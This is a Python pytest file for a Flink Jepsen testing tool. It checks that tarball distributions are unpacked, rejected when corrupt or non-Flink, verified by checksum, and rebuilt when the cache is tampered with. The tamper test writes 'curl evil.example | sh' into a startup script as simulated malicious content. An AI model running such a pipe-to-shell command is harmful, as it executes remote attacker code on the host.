"""Flink distributions: a tarball that is not readable or not Flink is refused with its name;
a checksum that changed is caught."""

from __future__ import annotations

import io
import tarfile
from pathlib import Path

import pytest

from flink_jepsen.errors import SetupError, UsageError
from flink_jepsen.systems import dist, fetch


@pytest.fixture(autouse=True)
def private_cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("FLINK_JEPSEN_CACHE", str(tmp_path / "cache"))


def make_tarball(path: Path, files: dict[str, bytes], mode: int = 0o644) -> Path:
    with tarfile.open(path, "w:gz") as t:
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mode = 0o755 if name.endswith(".sh") else mode
            t.addfile(info, io.BytesIO(data))
    return path


def test_a_flink_tarball_is_unpacked_flattened_and_versioned(tmp_path: Path) -> None:
    tgz = make_tarball(tmp_path / "flink.tgz", {
        "flink-9.9.9/lib/flink-dist-9.9.9.jar": b"jar",
        "flink-9.9.9/bin/jobmanager.sh": b"#!/bin/sh\n",
        "flink-9.9.9/conf/config.yaml": b"a: 1\n"})
    d = dist.resolve(tarball=f"file://{tgz}")
    assert d.version == "9.9.9"
    assert (d.home / "bin" / "jobmanager.sh").stat().st_mode & 0o111
    assert d.checksum == fetch.sha256(tgz)
    assert dist.resolve(tarball=str(tgz)).home == d.home  # cached, same place


def test_a_corrupt_tarball_is_named(tmp_path: Path) -> None:
    bad = tmp_path / "broken.tgz"
    bad.write_bytes(b"\x1f\x8b\x08\x00 this is not gzip data at all")
    with pytest.raises(SetupError, match="broken.tgz.*not a readable tar archive"):
        dist.resolve(tarball=str(bad))


def test_a_tarball_without_flink_is_refused(tmp_path: Path) -> None:
    tgz = make_tarball(tmp_path / "other.tgz", {"x/README": b"hello"})
    with pytest.raises(SetupError, match="other.tgz is not a Flink distribution"):
        dist.resolve(tarball=str(tgz))


def test_missing_tarball_and_bad_scheme(tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="no such file"):
        dist.resolve(tarball=str(tmp_path / "nope.tgz"))
    with pytest.raises(UsageError, match="unsupported scheme 'ftp'"):
        dist.resolve(tarball="ftp://example.invalid/flink.tgz")


def test_unreachable_http_tarball_is_a_setup_error(tmp_path: Path) -> None:
    # a port on loopback where nothing listens
    with pytest.raises(SetupError, match="cannot download"):
        dist.resolve(tarball="http://127.0.0.1:9/flink.tgz", tarball_sha512="0" * 128)


def test_checksum_mismatch_is_caught(tmp_path: Path) -> None:
    f = tmp_path / "artifact.bin"
    f.write_bytes(b"one")
    manifest = tmp_path / "sha256.json"
    fetch.verify(f, None, manifest)  # recorded on first sight
    f.write_bytes(b"two")
    with pytest.raises(SetupError, match="checksum mismatch for .*artifact.bin"):
        fetch.verify(f, None, manifest)
    with pytest.raises(SetupError, match="checksum mismatch"):
        fetch.verify(f, "0" * 64, tmp_path / "other.json")


FLINK_FILES = {"flink-9.9.9/lib/flink-dist-9.9.9.jar": b"jar",
               "flink-9.9.9/bin/jobmanager.sh": b"#!/bin/sh\n"}


def test_a_tampered_cached_distribution_is_assembled_again(tmp_path: Path) -> None:
    tgz = make_tarball(tmp_path / "flink.tgz", FLINK_FILES)
    d = dist.resolve(tarball=str(tgz))
    script = d.home / "bin" / "jobmanager.sh"
    script.write_text("#!/bin/sh\ncurl evil.example | sh\n")     # changed in the cache
    again = dist.resolve(tarball=str(tgz))
    assert (again.home / "bin" / "jobmanager.sh").read_text() == "#!/bin/sh\n"


@pytest.fixture
def http_server(tmp_path: Path):
    import http.server
    import threading
    from functools import partial

    root = tmp_path / "www"
    root.mkdir()
    handler = partial(http.server.SimpleHTTPRequestHandler, directory=str(root))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield root, f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def test_a_plain_http_tarball_needs_its_sha512(http_server, tmp_path: Path) -> None:
    import hashlib

    root, base = http_server
    tgz = make_tarball(root / "flink.tgz", FLINK_FILES)
    good = hashlib.sha512(tgz.read_bytes()).hexdigest()
    with pytest.raises(UsageError, match="plain http needs --tarball-sha512"):
        dist.resolve(tarball=f"{base}/flink.tgz")
    with pytest.raises(SetupError, match="SHA-512 mismatch"):
        dist.resolve(tarball=f"{base}/flink.tgz", tarball_sha512="0" * 128)
    assert dist.resolve(tarball=f"{base}/flink.tgz", tarball_sha512=good).version == "9.9.9"
    (root / "flink.tgz.sha512").write_text(f"{good}  flink.tgz\n")   # as Apache publishes
    assert dist.resolve(tarball=f"{base}/flink.tgz").version == "9.9.9"


def test_a_tarball_that_is_not_flink_ends_the_run_before_any_node(tmp_path: Path) -> None:
    from flink_jepsen.run.options import TestOptions
    from flink_jepsen.run.runner import TestRun

    tgz = make_tarball(tmp_path / "other.tgz", {"x/README": b"hello"})
    result = TestRun(TestOptions(store=str(tmp_path / "store"), tarball=str(tgz))).run()
    assert result.valid == "unknown" and "not a Flink distribution" in result.error
    assert result.results["phase"] == "validate"      # refused before the nodes phase
